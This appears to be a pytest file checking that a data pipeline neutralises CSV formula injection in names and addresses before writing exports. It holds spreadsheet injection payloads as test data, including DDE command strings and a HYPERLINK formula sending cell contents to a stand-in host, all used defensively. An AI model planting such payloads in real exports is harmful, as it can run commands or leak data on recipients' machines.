"""CSV injection (issue 9): formula-leading names and addresses typed by a person never
reach a written CSV as a formula, through the whole pipeline, on SQLite and PostgreSQL.

A generated landing zone gets one more web export and one more mail export whose
people (synthetic, adults, no prohibition) have names and addresses such as
`=HYPERLINK(...)` and `=cmd|' /C calc'!A0`; the whole `register_load` job runs, and
every cell of every CSV it wrote is read back.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest

from pipeline.csv_safety import FORMULA_CHARACTERS, is_formula_leading, neutralise_cell, safe_writer
from synth import generate
from test_pipeline_e2e import _run
from test_register_helpers import personal_id

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    " =1+1",
]
MAIL_HEADER = ("letter_id,received,full_name,personal_id,address,postal_code_and_city,phone,email,account,"
               "product,metering_point,no_direct_marketing")


def _hostile_web(path: Path) -> None:
    lines = []
    for n, value in enumerate(HOSTILE):
        lines.append(json.dumps({
            "id": f"W-20261130-9{n:05d}", "submitted_at": "2026-11-30T12:00:00+02:00", "authenticated": True,
            "person": {"first_names": value, "last_name": value, "personal_id": personal_id(1 + n, 3, 1961, 620 + n)},
            "contact": {"email": f"testi.kaava{n}@example.fi", "phone": f"+35840555{n:04d}",
                        "address": {"street": value, "postal_code": "00100", "city": value}},
            "service": {"product": "broadband"},
            "consents": {"direct_marketing_prohibited": False}, "language": "fi"}, ensure_ascii=False))
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")


def _hostile_mail(path: Path) -> None:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")  # the source system's own writer: hostile as it comes
    for n, value in enumerate(HOSTILE):
        writer.writerow([f"L-9{n:05d}", "30.11.2026", f"{value} Kaavanen", personal_id(1 + n, 5, 1962, 720 + n),
                         value, f"00100 {value}", f"+35840666{n:04d}", f"testi.kirje{n}@example.fi", "", "TV", "",
                         ""])
    path.write_bytes(("\ufeff" + MAIL_HEADER + "\r\n" + out.getvalue()).encode("utf-8"))


@pytest.fixture(scope="module")
def hostile_zone(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("hostile")
    generate(out, people=120, days=2, seed=11)
    _hostile_web(out / "landing" / "web" / "web_20261130.jsonl")
    _hostile_mail(out / "landing" / "mail" / "mail_20261130.csv")
    for written in ("web/web_20261130.jsonl", "mail/mail_20261130.csv"):  # the exports have finished
        (out / "landing" / f"{written}.ready").touch()
    return out


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_no_written_csv_cell_starts_a_formula(hostile_zone, register_engine, tmp_path):
    url = register_engine.url.render_as_string(hide_password=False)
    zone = tmp_path / "landing"
    shutil.copytree(hostile_zone / "landing", zone)
    result = _run(zone, url)
    assert result.success
    checks = {c.check_name: c for c in result.get_asset_check_evaluations()}
    assert checks["marketing_extract_respects_prohibitions"].passed
    assert checks["marketing_extract_respects_prohibitions"].metadata["formula_cells"].value == 0

    written = sorted((tmp_path / "extract").rglob("*.csv"))
    assert len(written) == 5
    cells = [cell for path in written for cell in _cells(path)]
    assert not [c for c in cells if is_formula_leading(c)]
    assert not [c for c in cells if c[:1] in FORMULA_CHARACTERS and not c.startswith("+358")]
    # The hostile people did reach the list, neutralised (not dropped on the way).
    neutralised = {c.casefold() for c in cells if c.startswith("'")}  # names are normalised to Title case
    for value in ("=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"klik")'):
        assert "'" + value.casefold() in neutralised
    # Validated phone numbers stay as they are: a partner's dialler needs E.164.
    assert any(c.startswith("+35840555") for c in cells)


@pytest.mark.parametrize("value", HOSTILE + ["\r=1+1", "\uff1d1+1", "-", "+", "@"])
def test_every_formula_leading_cell_is_neutralised(value):
    out = io.StringIO()
    safe_writer(out).writerows([["1", value, "+358401234567", None, 42]])
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["1", "'" + value, "+358401234567", "", "42"]
    assert out.getvalue().startswith('"1","')  # every field quoted
    assert neutralise_cell(neutralise_cell(value)) == neutralise_cell(value)  # once is enough


@pytest.mark.parametrize("value", ["+358401234567x", "+0401234567", "+35840 123", "+1234"])
def test_only_a_whole_e164_number_passes_unquoted(value):
    assert is_formula_leading(value)


def test_the_extract_check_fails_on_a_formula_cell(register_engine, tmp_path):
    """The read-back check vouches for the files as published: a formula written into
    one (by a tool other than the pipeline) fails it, a validated phone does not."""
    from pipeline.register.marketing import verify_extract, write_extract
    from test_asset_checks import database_today, load_sample_register

    load_sample_register(register_engine)
    today = database_today(register_engine)
    write_extract(register_engine, tmp_path, today=today)
    assert verify_extract(register_engine, tmp_path, today=today).ok
    target = next((tmp_path / today.isoformat()).glob("marketing_*.csv"))
    with target.open(encoding="utf-8", newline="") as handle:
        first_id = next(row for row in csv.reader(handle) if row[0].isdigit())[0]
    with target.open("a", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerow([first_id, "=cmd|' /C calc'!A0", "Testi", "Testitie 1", "00100", "Helsinki",
                                     "testi@example.fi", "+358401234567"])
    verification = verify_extract(register_engine, tmp_path, today=today)
    assert not verification.ok and verification.metadata()["formula_cells"] == 1
